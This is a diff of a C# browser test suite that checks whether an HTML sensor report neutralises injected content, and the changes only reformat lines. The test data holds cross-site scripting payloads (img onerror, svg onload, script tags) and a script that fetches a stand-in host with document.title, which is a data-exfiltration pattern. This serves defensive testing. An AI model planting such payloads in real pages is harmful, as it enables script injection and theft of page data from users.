@@ -48,7 +48,8 @@ public sealed class ReportBrowserTests(Browser browser) : TemporaryFolder, IClas
     public async Task The_policy_would_stop_a_script_all_the_same()
     {
         var path = Make("tour");
-        File.WriteAllText(path, File.ReadAllText(path).Replace("<main>", "<main><script>document.title='run'</script><img src=http://192.0.2.1/x>", StringComparison.Ordinal));
+        File.WriteAllText(path, File.ReadAllText(path).Replace("<main>",
+            "<main><script>document.title='run'</script><img src=http://192.0.2.1/x>", StringComparison.Ordinal));
         await using var opened = await browser.Open(path);
         Assert.Equal("Sensor report", await opened.Page.TitleAsync());
         Assert.Contains(opened.Deeds, deed => deed.Contains("Content Security Policy", StringComparison.Ordinal));
@@ -61,8 +62,11 @@ public sealed class ReportBrowserTests(Browser browser) : TemporaryFolder, IClas
         await opened.Unfold();
         var text = await opened.Page.EvaluateAsync<string>("() => document.body.textContent");
         Assert.All(
-            (string[])["\"><img src=http://192.0.2.1/x onerror=alert(document.domain)>", "http://192.168.7.66/<script>fetch('http://192.0.2.1/'+document.title)</script>",
-                "</style></title><svg onload=alert(2)>", "// </script></textarea></pre><script>fetch('http://192.0.2.1/'+document.title)</script>", "\\u202e", "return eval('\"DIRECT\"')"],
+            (string[])["\"><img src=http://192.0.2.1/x onerror=alert(document.domain)>",
+                "http://192.168.7.66/<script>fetch('http://192.0.2.1/'+document.title)</script>",
+                "</style></title><svg onload=alert(2)>",
+                    "// </script></textarea></pre><script>fetch('http://192.0.2.1/'+document.title)</script>", "\\u202e",
+                    "return eval('\"DIRECT\"')"],
             shown => Assert.Contains(shown, text, StringComparison.Ordinal));
         Assert.DoesNotContain('\u202e', text);
     }
@@ -143,7 +147,9 @@ public sealed class ReportBrowserTests(Browser browser) : TemporaryFolder, IClas
             File.WriteAllBytes(Path.Combine(folder, name), octets);
     }
 
-    /// <summary>WCAG 2 contrast of every text against the nearest painted ground, at least 4.5 (SVG: against both grounds the page has).</summary>
+    /// <summary>
+    /// WCAG 2 contrast of every text against the nearest painted ground, at least 4.5 (SVG: against both grounds the page has).
+    /// </summary>
     private const string Contrast =
         """
         () => {
